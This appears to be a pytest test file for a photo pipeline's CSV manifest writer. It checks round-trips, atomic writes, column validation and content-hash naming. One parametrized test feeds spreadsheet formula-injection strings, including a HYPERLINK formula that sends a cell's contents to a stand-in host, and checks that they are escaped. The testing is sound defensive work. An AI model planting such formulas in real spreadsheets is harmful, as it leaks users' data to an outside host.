"""Tables: what is written is read back, whole or not at all."""

from __future__ import annotations

from dataclasses import asdict, dataclass
from pathlib import Path

import pytest

from pipeline.dataset.manifest import (
    MANIFEST,
    RawPhoto,
    cell,
    content_name,
    read_table,
    write_table,
)
from pipeline.errors import ColorpipeError


@dataclass(frozen=True)
class Row:
    text: str
    count: int
    share: float
    kept: bool


ROWS = [
    Row("plain", 1, 0.1, True),
    Row('a "quoted", comma\nand a second line', -2, 1e-12, False),
    Row("Gebäude 城市 🏔", 0, 3.0, True),
    Row("", 0, 0.0, False),
]


def test_rows_come_back_as_they_were(tmp_path: Path) -> None:
    path = tmp_path / "new" / "table.csv"
    write_table(path, ROWS, Row)
    assert read_table(path, Row) == ROWS


def test_the_same_rows_give_the_same_bytes_with_unix_line_ends(tmp_path: Path) -> None:
    first, second = tmp_path / "a.csv", tmp_path / "b.csv"
    write_table(first, ROWS, Row)
    write_table(second, iter(ROWS), Row)
    assert first.read_bytes() == second.read_bytes()
    assert first.read_bytes().startswith(b"text,count,share,kept\nplain,1,0.1,True\n")
    assert b"\r" not in first.read_bytes()


def test_a_table_without_rows_still_has_its_columns(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_table(path, [], Row)
    assert path.read_text() == "text,count,share,kept\n"
    assert read_table(path, Row) == []


def test_a_row_of_the_manifest_survives_the_round_trip(tmp_path: Path) -> None:
    # By its fields' types, so that a column added to the manifest is covered too.
    values = {
        name: {"str": "a,b", "int": 7, "float": 0.5, "bool": True}[str(field.type)]
        for name, field in RawPhoto.__dataclass_fields__.items()
    }
    photo = RawPhoto(**values)
    write_table(tmp_path / MANIFEST, [photo], RawPhoto)
    (read,) = read_table(tmp_path / MANIFEST, RawPhoto)
    assert asdict(read) == values


def test_a_write_that_fails_leaves_the_old_table_and_no_litter(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_table(path, ROWS[:1], Row)
    before = path.read_bytes()

    def rows() -> object:
        yield ROWS[1]
        raise RuntimeError("the source of the rows broke")

    with pytest.raises(RuntimeError):
        write_table(path, rows(), Row)  # type: ignore[arg-type]
    assert path.read_bytes() == before
    assert list(tmp_path.iterdir()) == [path]


def test_a_missing_table_and_other_columns_are_refused_with_what_to_do(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    with pytest.raises(ColorpipeError, match=r"table\.csv is missing; run the stage"):
        read_table(path, Row)
    path.write_text("text,count\na,1\n")
    with pytest.raises(ColorpipeError, match="does not have the columns text, count, share, kept"):
        read_table(path, Row)


def test_a_row_that_no_reader_takes_is_told(tmp_path: Path) -> None:
    write_table(tmp_path / "table.csv", [Row("x" * 140_000, 1, 0.0, False)], Row)
    with pytest.raises(ColorpipeError, match=r"table\.csv has a row that cannot be read"):
        read_table(tmp_path / "table.csv", Row)


@pytest.mark.parametrize(
    ("strange", "kept"),
    [
        ("http://a/1.jpg?x=-1", "http://a/1.jpg?x=-1"),
        ('=HYPERLINK("http://a/?"&A1)', '\'=HYPERLINK("http://a/?"&A1)'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "' =1"),
        ("＝1", "'＝1"),
        ("'=1", "'=1"),
        ("x" * 8192, "x" * 8192),
        ("x" * 8193, "x" * 8191 + "…"),
        ("", ""),
    ],
)
def test_a_stranger_s_text_is_no_formula_and_not_too_long(strange: str, kept: str) -> None:
    assert cell(strange) == kept


def test_columns_with_a_default_may_be_missing(tmp_path: Path) -> None:
    @dataclass(frozen=True)
    class Newer(Row):
        note: str = "none"

    write_table(tmp_path / "table.csv", ROWS, Row)
    assert read_table(tmp_path / "table.csv", Newer) == [Newer(**asdict(row)) for row in ROWS]
    (tmp_path / "table.csv").write_text("text,count,share,kept,other\n")
    with pytest.raises(ColorpipeError, match="does not have the columns"):
        read_table(tmp_path / "table.csv", Newer)


def test_what_is_no_text_is_written_as_a_question_mark(tmp_path: Path) -> None:
    write_table(tmp_path / "table.csv", [Row("caf\udce9", 1, 0.0, False)], Row)
    assert read_table(tmp_path / "table.csv", Row) == [Row("caf?", 1, 0.0, False)]


def test_a_photo_is_named_by_its_bytes() -> None:
    # The first 16 hex digits of SHA-256 of "abc", from FIPS 180-2.
    assert content_name(b"abc", ".jpg") == "ba7816bf8f01cfea.jpg"
    assert content_name(b"abc", ".png") != content_name(b"abd", ".png")
